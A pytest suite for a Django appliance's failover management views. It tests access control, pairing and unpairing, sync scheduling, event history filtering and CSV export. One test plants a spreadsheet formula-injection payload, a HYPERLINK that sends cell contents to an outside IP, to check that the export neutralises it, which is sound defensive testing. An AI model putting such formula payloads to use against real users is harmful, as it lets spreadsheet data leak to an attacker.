"""Management > Failover: who may use each view, and what each one says and changes."""

from __future__ import annotations

import csv
import datetime as dt
import io
import socket
import zoneinfo
from collections.abc import Iterator

import pytest
from django.contrib.messages import get_messages
from django.urls import reverse
from django.utils import timezone
from django_celery_beat.models import PeriodicTask

from appliance.models import AuditEvent, SiteSettings
from failover import schedule
from failover.models import BackupSettings, FailoverEvent, FailoverState, Role, SyncRun
from failover.sync import progress
from security import services as security_services
from tests.conftest import make_user, paired_as

pytestmark = pytest.mark.django_db

KEY = "failover views shared key 0001"
GET_VIEWS = ["failover:failover", "failover:history", "failover:syncs", "failover:sync_progress"]
POST_VIEWS = [
    "failover:establish",
    "failover:break",
    "failover:sync_now",
    "failover:backup_settings",
]
GOOD_ESTABLISH = {
    "backup_host": "192.0.2.20",
    "backup_port": "443",
    "reverse_host": "192.0.2.10",
    "reverse_port": "443",
}
NOT_A_HOST = (
    "“not a host!” is not a host name or IP address. Enter a name such as backup.example.com "
    "or an address such as 192.0.2.20."
)
SETTINGS_BASE = {"enable_backup_operations": "on", "bandwidth_limit": ""}


def flashed(response) -> list[str]:
    """The messages the request that produced `response` added."""
    return [str(message) for message in get_messages(response.wsgi_request)]


def pair(role: Role, port: int = 443, name: str = "site-b") -> FailoverState:
    state = FailoverState.load()
    state.establish(
        role,
        epoch=state.epoch + 1,
        peer_name=name,
        peer_host="127.0.0.1",
        peer_port=port,
        peer_scheme="http",
        peer_fingerprint="",
    )
    return state


def assert_unpaired() -> None:
    assert FailoverState.load().role == Role.NONE
    assert not FailoverEvent.objects.exists()


@pytest.fixture
def closed_port() -> Iterator[int]:
    """A loopback port held bound but not listening: connecting to it is refused."""
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        yield sock.getsockname()[1]


@pytest.fixture
def plain_http(settings) -> None:
    """Peer calls over plain HTTP, so no certificate is probed or pinned."""
    settings.PEER_ALLOW_PLAIN_HTTP = True
    settings.TLS_CERTFILE = ""
    settings.TLS_KEYFILE = ""
    settings.PEER_CA_BUNDLE = ""
    settings.PEER_TIMEOUT_SECONDS = 2


@pytest.fixture
def key(db) -> None:
    security_services.set_key(KEY, "tests")


# Personas


@pytest.mark.parametrize("name", GET_VIEWS)
def test_it_sends_anonymous_users_to_login_from_every_page(anon_client, name):
    response = anon_client.get(reverse(name))
    assert response.status_code == 302
    assert response["Location"].startswith("/login")


@pytest.mark.parametrize("name", POST_VIEWS)
def test_it_sends_anonymous_posts_to_login_and_changes_nothing(anon_client, name):
    response = anon_client.post(reverse(name), GOOD_ESTABLISH)
    assert response.status_code == 302
    assert response["Location"].startswith("/login")
    assert_unpaired()
    assert not SyncRun.objects.exists()


@pytest.mark.parametrize("name", GET_VIEWS)
def test_it_forbids_every_page_to_users_without_administrative_rights(user_client, name):
    assert user_client.get(reverse(name)).status_code == 403


@pytest.mark.parametrize("name", POST_VIEWS)
def test_it_forbids_every_action_to_users_without_administrative_rights(user_client, name):
    pair(Role.BACKUP)
    events = FailoverEvent.objects.count()
    response = user_client.post(reverse(name), {**GOOD_ESTABLISH, "force": "on"})
    assert response.status_code == 403
    assert FailoverState.load().role == Role.BACKUP
    assert FailoverEvent.objects.count() == events
    assert not SyncRun.objects.exists()
    assert not BackupSettings.objects.exists()


@pytest.mark.parametrize("name", GET_VIEWS)
def test_it_serves_every_page_to_administrators(admin_client, name):
    assert admin_client.get(reverse(name)).status_code == 200


@pytest.mark.parametrize("name", POST_VIEWS)
@pytest.mark.parametrize("persona", ["admin_client", "user_client", "anon_client"])
def test_actions_refuse_get(request, persona, name):
    client = request.getfixturevalue(persona)
    assert client.get(reverse(name)).status_code == 405


def test_the_page_offers_to_establish_and_asks_for_a_key_first(admin_client):
    page = admin_client.get(reverse("failover:failover")).content.decode()
    assert 'data-testid="establish-form"' in page
    assert "pre-shared key</a> on both sites" in page
    assert 'data-testid="break-form"' not in page


def test_the_page_of_a_backup_offers_sync_and_break(admin_client):
    pair(Role.BACKUP)
    page = admin_client.get(reverse("failover:failover")).content.decode()
    assert 'data-testid="establish-form"' not in page
    assert 'data-testid="sync-form"' in page
    assert 'data-testid="break-form"' in page
    assert 'data-testid="peer-name">site-b<' in page


# Establish


@pytest.mark.parametrize(
    ("field", "value", "error"),
    [
        ("backup_host", "", "This field is required."),
        ("reverse_host", "", "This field is required."),
        ("backup_host", "not a host!", NOT_A_HOST),
        ("reverse_host", "not a host!", NOT_A_HOST),
        ("backup_port", "0", "Ensure this value is greater than or equal to 1."),
        ("backup_port", "70000", "Ensure this value is less than or equal to 65535."),
        ("reverse_port", "0", "Ensure this value is greater than or equal to 1."),
        ("reverse_port", "70000", "Ensure this value is less than or equal to 65535."),
    ],
)
def test_establish_rejects_bad_input_and_changes_nothing(admin_client, key, field, value, error):
    response = admin_client.post(reverse("failover:establish"), {**GOOD_ESTABLISH, field: value})
    assert response.status_code == 400
    assert response.context["form"].errors[field] == [error]
    assert error in response.content.decode()
    assert_unpaired()


def test_establish_without_a_key_says_to_save_one_first(admin_client, plain_http, closed_port):
    data = {**GOOD_ESTABLISH, "backup_host": "127.0.0.1", "backup_port": closed_port}
    response = admin_client.post(reverse("failover:establish"), data)
    assert response.status_code == 400
    message = (
        "This site has no pre-shared key. Save one under Management &gt; Security, and the "
        "same one on the backup."
    )
    assert message in response.content.decode()
    assert_unpaired()


def test_establish_with_an_unreachable_backup_names_the_address_and_the_cause(
    admin_client, plain_http, key, closed_port
):
    data = {**GOOD_ESTABLISH, "backup_host": "127.0.0.1", "backup_port": closed_port}
    response = admin_client.post(reverse("failover:establish"), data)
    assert response.status_code == 400
    reason = f"Could not reach 127.0.0.1:{closed_port}: connection refused."
    assert response.context["form"].non_field_errors() == [reason]
    assert reason in response.content.decode()
    assert FailoverState.load().role == Role.NONE
    event = FailoverEvent.objects.get()
    assert event.kind == FailoverEvent.Kind.ERROR
    assert event.message == f"Establish Relationship with 127.0.0.1:{closed_port} failed: {reason}"
    assert event.actor == "admin"


# Break


def test_break_when_unpaired_says_so(admin_client):
    response = admin_client.post(reverse("failover:break"))
    assert response.status_code == 302
    assert response["Location"] == reverse("failover:failover")
    assert flashed(response) == ["This site is not paired."]
    assert_unpaired()


def test_break_without_force_keeps_the_relationship_when_the_peer_is_unreachable(
    admin_client, plain_http, key, closed_port
):
    pair(Role.PRIMARY, closed_port)
    response = admin_client.post(reverse("failover:break"))
    assert response.status_code == 302
    assert flashed(response) == [
        f"Could not tell site-b at 127.0.0.1:{closed_port} to break the relationship: "
        f"Could not reach 127.0.0.1:{closed_port}: connection refused. Nothing was changed. "
        "Use Force to break it on this site alone."
    ]
    assert FailoverState.load().role == Role.PRIMARY
    assert not FailoverEvent.objects.filter(kind=FailoverEvent.Kind.BROKEN).exists()


def test_break_with_force_leaves_alone_and_says_the_peer_was_not_told(
    admin_client, plain_http, key, closed_port
):
    epoch = pair(Role.PRIMARY, closed_port).epoch
    response = admin_client.post(reverse("failover:break"), {"force": "on"})
    assert response.status_code == 302
    outcome = (
        f"site-b at 127.0.0.1:{closed_port} could not be told (Could not reach "
        f"127.0.0.1:{closed_port}: connection refused.); break the relationship there too "
        "when it is back."
    )
    assert flashed(response) == [f"Relationship broken: this site's role is now none. {outcome}"]
    state = FailoverState.load()
    assert state.role == Role.NONE
    assert state.epoch == epoch + 1
    assert state.peer_host == ""
    event = FailoverEvent.objects.get(kind=FailoverEvent.Kind.BROKEN)
    assert event.message == f"Relationship broken on test-site. {outcome}"
    assert event.actor == "admin"
    assert AuditEvent.objects.filter(action="failover.broken", actor="admin").exists()


# Sync Now


def test_sync_now_when_unpaired_says_there_is_nothing_to_sync(
    admin_client, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        response = admin_client.post(reverse("failover:sync_now"))
    assert response.status_code == 302
    assert flashed(response) == ["This site is not paired: there is nothing to sync."]
    assert not SyncRun.objects.exists()
    assert callbacks == []


def test_sync_now_on_a_backup_queues_one_sync_once_committed(
    admin_client, django_capture_on_commit_callbacks, monkeypatch
):
    pair(Role.BACKUP)
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        response = admin_client.post(reverse("failover:sync_now"))
    run = SyncRun.objects.get()
    assert flashed(response) == [f"Sync #{run.pk} started."]
    assert (run.status, run.trigger, run.requested_by) == ("pending", "manual", "admin")
    assert not run.full_requested
    assert len(callbacks) == 1

    queued = []
    monkeypatch.setattr("failover.jobs.run_sync", FakeTask(queued).delay)
    callbacks[0]()
    assert queued == [run.pk]


def test_sync_now_with_full_asks_for_a_full_sync(admin_client, django_capture_on_commit_callbacks):
    pair(Role.BACKUP)
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        response = admin_client.post(reverse("failover:sync_now"), {"full": "on"})
    run = SyncRun.objects.get()
    assert run.full_requested
    assert flashed(response) == [f"Full sync #{run.pk} started."]
    assert len(callbacks) == 1


def test_a_second_sync_now_while_one_is_pending_says_so_and_queues_nothing(
    admin_client, django_capture_on_commit_callbacks
):
    pair(Role.BACKUP)
    run, _ = SyncRun.request(SyncRun.Trigger.SCHEDULE)
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        response = admin_client.post(reverse("failover:sync_now"))
    local = timezone.localtime(run.created_at)
    assert flashed(response) == [
        f"Sync #{run.pk} is already pending (since {local:%H:%M:%S}); wait for it."
    ]
    assert SyncRun.objects.count() == 1
    assert callbacks == []


def test_already_pending_gives_the_time_in_the_sites_time_zone(admin_client):
    SiteSettings(time_zone="Asia/Tokyo").save()
    pair(Role.BACKUP)
    run, _ = SyncRun.request(SyncRun.Trigger.SCHEDULE)
    response = admin_client.post(reverse("failover:sync_now"))
    tokyo = run.created_at.astimezone(zoneinfo.ZoneInfo("Asia/Tokyo"))
    assert flashed(response) == [
        f"Sync #{run.pk} is already pending (since {tokyo:%H:%M:%S}); wait for it."
    ]


def test_sync_now_on_a_primary_names_the_unreachable_backup(
    admin_client, plain_http, key, closed_port
):
    pair(Role.PRIMARY, closed_port)
    response = admin_client.post(reverse("failover:sync_now"))
    assert flashed(response) == [
        f"Could not ask the backup site-b to sync: Could not reach 127.0.0.1:{closed_port}: "
        "connection refused."
    ]
    assert not SyncRun.objects.exists()


class FakeTask:
    """Stands in for a Celery task: records what was queued."""

    def __init__(self, queued: list) -> None:
        self.queued = queued

    def delay(self, *args: object) -> None:
        self.queued.extend(args)


# Backup settings


@pytest.mark.parametrize(
    ("data", "described", "stored"),
    [
        ({"sync_interval": "15min"}, "every 15 minutes", {"sync_interval": "15min"}),
        ({"sync_interval": "hourly"}, "every hour", {"sync_interval": "hourly"}),
        (
            {"sync_interval": "hours", "sync_every_hours": "6"},
            "every 6 hours",
            {"sync_interval": "hours", "sync_every_hours": 6},
        ),
        (
            {"sync_interval": "daily", "sync_time": "02:30"},
            "every day at 02:30",
            {"sync_interval": "daily", "sync_time": dt.time(2, 30)},
        ),
        (
            {"sync_interval": "weekly", "sync_time": "23:15", "sync_weekday": "2"},
            "every Wednesday at 23:15",
            {"sync_interval": "weekly", "sync_time": dt.time(23, 15), "sync_weekday": 2},
        ),
    ],
)
def test_backup_settings_save_each_interval_and_name_the_schedule(
    admin_client, data, described, stored
):
    response = admin_client.post(reverse("failover:backup_settings"), {**SETTINGS_BASE, **data})
    assert response.status_code == 302
    assert response["Location"] == reverse("failover:failover")
    assert flashed(response) == [f"Backup settings saved: sync {described}. "]
    saved = BackupSettings.objects.get()
    assert {name: getattr(saved, name) for name in stored} == stored
    assert saved.enable_backup_operations
    audit = AuditEvent.objects.get(action="failover.backup_settings")
    assert (audit.actor, audit.detail) == ("admin", f"Backup settings: sync {described}.")
    task = PeriodicTask.objects.get(name=schedule.TASK_NAME)
    assert task.description == f"Data sync {described} (Management > Failover)."
    assert f"Automatic syncs run {described}" in admin_client.get(response["Location"]).text


def test_backup_settings_keep_the_bandwidth_limit_and_the_switch(admin_client):
    data = {"sync_interval": "hourly", "bandwidth_limit": "2000000"}
    admin_client.post(reverse("failover:backup_settings"), data)
    saved = BackupSettings.objects.get()
    assert saved.bandwidth_limit == 2_000_000
    assert not saved.enable_backup_operations
    assert not PeriodicTask.objects.get(name=schedule.TASK_NAME).enabled


@pytest.mark.parametrize(
    ("data", "field", "error"),
    [
        (
            {"sync_interval": "hours", "sync_every_hours": "1"},
            "sync_every_hours",
            "Enter a number of hours from 2 to 23 (for every hour, choose Every hour).",
        ),
        (
            {"sync_interval": "hours", "sync_every_hours": "24"},
            "sync_every_hours",
            "Enter a number of hours from 2 to 23 (for every hour, choose Every hour).",
        ),
        (
            {"sync_interval": "hours", "sync_every_hours": ""},
            "sync_every_hours",
            "Enter a number of hours from 2 to 23 (for every hour, choose Every hour).",
        ),
        (
            {"sync_interval": "daily", "sync_time": ""},
            "sync_time",
            "Enter the time of day of the sync, e.g. 02:30.",
        ),
        (
            {"sync_interval": "weekly", "sync_time": "", "sync_weekday": "1"},
            "sync_time",
            "Enter the time of day of the sync, e.g. 02:30.",
        ),
        pytest.param(
            {"sync_interval": "weekly", "sync_time": "02:30", "sync_weekday": ""},
            "sync_weekday",
            "Choose the day of the week of the sync.",
        ),
    ],
)
def test_backup_settings_refuse_an_incomplete_schedule_and_save_nothing(
    admin_client, data, field, error
):
    admin_client.raise_request_exception = False
    task = PeriodicTask.objects.get(name=schedule.TASK_NAME)
    response = admin_client.post(reverse("failover:backup_settings"), {**SETTINGS_BASE, **data})
    assert response.status_code == 400
    assert response.context["settings_form"].errors[field] == [error]
    assert error in response.content.decode()
    assert not BackupSettings.objects.exists()
    assert not AuditEvent.objects.filter(action="failover.backup_settings").exists()
    unchanged = PeriodicTask.objects.get(name=schedule.TASK_NAME)
    assert (unchanged.interval_id, unchanged.crontab_id) == (task.interval_id, task.crontab_id)


# Status history


def make_event(kind: str, message: str = "something happened", **fields: object) -> FailoverEvent:
    return FailoverEvent.objects.create(kind=kind, message=message, site="test-site", **fields)


def listed(response) -> list[str]:
    return [event.message for event in response.context["page"].object_list]


def test_history_lists_every_event_newest_first(admin_client):
    make_event("established", "first")
    make_event("broken", "second")
    response = admin_client.get(reverse("failover:history"))
    assert listed(response) == ["second", "first"]
    assert "Relationship broken" in response.text


def test_history_filters_by_kind_and_by_severity(admin_client):
    make_event("broken", "broken, info")
    make_event("peer_unreachable", "unreachable, warning", severity="warning")
    make_event("key_mismatch", "mismatch, danger", severity="danger")
    url = reverse("failover:history")
    assert listed(admin_client.get(url, {"kind": "broken"})) == ["broken, info"]
    assert listed(admin_client.get(url, {"severity": "warning"})) == ["unreachable, warning"]
    both = admin_client.get(url, {"kind": "key_mismatch", "severity": "danger"})
    assert listed(both) == ["mismatch, danger"]
    assert listed(admin_client.get(url, {"kind": "broken", "severity": "danger"})) == []


def test_history_filters_by_date_inclusive(admin_client):
    for day in (1, 2, 3, 4):
        make_event("error", f"day {day}", at=dt.datetime(2025, 3, day, 12, tzinfo=dt.UTC))
    response = admin_client.get(
        reverse("failover:history"), {"since": "2025-03-02", "until": "2025-03-03"}
    )
    assert listed(response) == ["day 3", "day 2"]
    since = admin_client.get(reverse("failover:history"), {"since": "2025-03-04"})
    assert listed(since) == ["day 4"]


def test_history_says_when_the_dates_are_the_wrong_way_round(admin_client):
    make_event("error", "anything", at=dt.datetime(2025, 3, 2, 12, tzinfo=dt.UTC))
    response = admin_client.get(
        reverse("failover:history"), {"since": "2025-03-03", "until": "2025-03-01"}
    )
    assert response.status_code == 200
    assert "“To” is before “From”; swap the dates." in response.text
    assert listed(response) == []
    assert "No events." in response.text


def test_history_pages_by_fifty_and_keeps_the_filters_in_the_links(admin_client):
    start = dt.datetime(2025, 3, 1, tzinfo=dt.UTC)
    FailoverEvent.objects.bulk_create(
        FailoverEvent(kind="error", message=f"event {n}", at=start + dt.timedelta(minutes=n))
        for n in range(120)
    )
    make_event("broken", "not an error")
    url = reverse("failover:history")
    first = admin_client.get(url, {"kind": "error"})
    assert listed(first) == [f"event {n}" for n in range(119, 69, -1)]
    assert "Page 1 of 3" in first.text
    assert 'href="?kind=error&amp;page=2"' in first.text
    last = admin_client.get(url, {"kind": "error", "page": "3"})
    assert listed(last) == [f"event {n}" for n in range(19, -1, -1)]
    assert 'href="?kind=error&amp;page=2">Previous' in last.text


def read_csv(response) -> list[list[str]]:
    assert response["Content-Type"] == "text/csv"
    assert response["Content-Disposition"].startswith('attachment; filename="status-history-')
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


def test_history_exports_the_filtered_events_as_csv(admin_client):
    at = dt.datetime(2025, 3, 2, 12, 30, tzinfo=dt.UTC)
    make_event("broken", "Relationship broken on test-site.", at=at, actor="admin", epoch=3)
    make_event("error", "not exported", at=at)
    response = admin_client.get(reverse("failover:history"), {"kind": "broken", "format": "csv"})
    assert read_csv(response) == [
        ["time", "site", "kind", "severity", "epoch", "actor", "message"],
        [
            "2025-03-02T12:30:00+00:00",
            "test-site",
            "broken",
            "info",
            "3",
            "admin",
            "Relationship broken on test-site.",
        ],
    ]


def test_history_export_of_a_bad_date_range_has_only_the_header(admin_client):
    make_event("error", "anything")
    response = admin_client.get(
        reverse("failover:history"),
        {"since": "2025-03-03", "until": "2025-03-01", "format": "csv"},
    )
    assert read_csv(response) == [["time", "site", "kind", "severity", "epoch", "actor", "message"]]


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@"])
def test_history_export_neutralises_messages_a_spreadsheet_would_run(admin_client, prefix):
    make_event("error", f'{prefix}HYPERLINK("http://198.51.100.1/?x="&A1,"click")')
    make_event("error", "a plain sentence - with a dash")
    response = admin_client.get(reverse("failover:history"), {"format": "csv"})
    messages = [row[6] for row in read_csv(response)[1:]]
    assert messages == [
        "a plain sentence - with a dash",
        f'\'{prefix}HYPERLINK("http://198.51.100.1/?x="&A1,"click")',
    ]


def test_history_export_neutralises_a_user_name_a_spreadsheet_would_run(admin_client):
    FailoverEvent.record("error", "Something failed.", actor=make_user("-2+3", admin=True))
    response = admin_client.get(reverse("failover:history"), {"format": "csv"})
    assert read_csv(response)[1][5] == "'-2+3"


def test_history_export_filters_dates_in_the_sites_time_zone_like_the_page(admin_client):
    SiteSettings(time_zone="Europe/Berlin").save()
    make_event(
        "error", "just after midnight in Berlin", at=dt.datetime(2025, 1, 1, 23, 30, tzinfo=dt.UTC)
    )
    query = {"since": "2025-01-02", "until": "2025-01-02"}
    page = admin_client.get(reverse("failover:history"), query)
    assert listed(page) == ["just after midnight in Berlin"]
    exported = read_csv(admin_client.get(reverse("failover:history"), {**query, "format": "csv"}))
    assert [row[6] for row in exported[1:]] == ["just after midnight in Berlin"]


# Sync history and live progress


def test_the_page_of_a_backup_shows_its_last_syncs(admin_client):
    pair(Role.BACKUP)
    run = SyncRun.objects.create(trigger="established", status="succeeded", records=1234)
    response = admin_client.get(reverse("failover:failover"))
    assert response.status_code == 200
    assert response.context["last_sync"] == run
    assert 'data-testid="sync-row"' in response.text
    assert "1,234" in response.text


def test_the_sync_history_lists_runs_newest_first(admin_client):
    older = SyncRun.objects.create(trigger="schedule", status="succeeded", records=12)
    newer = SyncRun.objects.create(trigger="manual", status="failed", error="The peer went away.")
    response = admin_client.get(reverse("failover:syncs"))
    assert list(response.context["page"].object_list) == [newer, older]
    assert "The peer went away." in response.text


def test_sync_progress_without_any_run_says_none(admin_client):
    response = admin_client.get(reverse("failover:sync_progress"))
    assert response.json() == {"run": None, "lag": None}


def test_sync_progress_of_a_pending_run_has_no_live_counts(admin_client):
    run = SyncRun.objects.create(trigger="manual")
    data = admin_client.get(reverse("failover:sync_progress")).json()
    assert data["run"]["id"] == run.pk
    assert data["run"]["status"] == "pending"
    assert data["live"] is None


@pytest.mark.usefixtures("peer_redis")
def test_sync_progress_of_a_running_run_includes_its_live_counts(admin_client):
    run = SyncRun.objects.create(trigger="manual", status="running", started_at=timezone.now())
    quiet = admin_client.get(reverse("failover:sync_progress")).json()
    assert quiet["run"]["status"] == "running"
    assert quiet["live"] is None

    live = progress.Progress(run.pk, expected=40)
    live.set_phase("downloading")
    live.add(records=10, size=2048)
    data = admin_client.get(reverse("failover:sync_progress")).json()
    assert data["run"]["id"] == run.pk
    assert data["run"]["status"] == "running"
    assert data["live"]["phase"] == "downloading"
    assert data["live"]["expected"] == 40


@pytest.mark.usefixtures("peer_redis")
def test_become_primary_is_queued_for_the_worker_and_a_second_one_refused(
    admin_client, monkeypatch
):
    queued = []
    monkeypatch.setattr("failover.jobs.change_role", lambda *args, **kwargs: queued.append(args))
    paired_as(Role.BACKUP)
    url = reverse("failover:become_primary")
    first = admin_client.post(url, {"sync_first": "on"}, follow=True)
    assert "Become Primary started" in first.content.decode()
    second = admin_client.post(url, {"sync_first": "on"}, follow=True)
    assert (
        "Become Primary did not start: A role change is already queued for the worker on "
        "test-site: Become Primary, asked by admin" in second.content.decode()
    )
    assert queued == [("become_primary", "admin", True)]


# Continuous replication on the page


def test_the_page_shows_the_lag_pending_recordings_and_what_a_primary_kept(admin_client):
    from failover.models import PendingRecording, SyncCursor, SyncSource

    pair(Role.BACKUP)
    now = timezone.now()
    SyncCursor.objects.create(
        pk=1, generation=SyncSource.load().generation, seq=4, primary_latest=7,
        pending_since=now - dt.timedelta(seconds=2), contact_at=now,
    )  # fmt: skip
    PendingRecording.objects.create(name="recordings/a.webm", size=3, sha256="0" * 64)
    FailoverState.objects.update(
        unsent_changes=5, unsent_export="20261130-site-a-unsent.json", unsent_at=now
    )
    page = admin_client.get(reverse("failover:failover")).content.decode()
    assert "3 changes," in page and "s behind" in page
    assert "1 recording came after its report and has not arrived yet" in page
    assert "it held 5 changes that the other site had not applied" in page
    live = admin_client.get(reverse("failover:sync_progress")).json()["lag"]
    assert (live["changes_behind"], live["connected"]) == (3, True)


def test_a_primary_shows_what_its_peer_kept_and_a_suspended_synchronous_mode(admin_client):
    pair(Role.PRIMARY)
    FailoverState.objects.update(
        peer_unsent_changes=2, peer_unsent_export="x-unsent.json", peer_unsent_at=timezone.now(),
        synchronous_suspended_at=timezone.now(),
    )  # fmt: skip
    page = admin_client.get(reverse("failover:failover")).content.decode()
    assert "held 2 changes this site never received" in page
    assert "Synchronous replication suspended since" in page
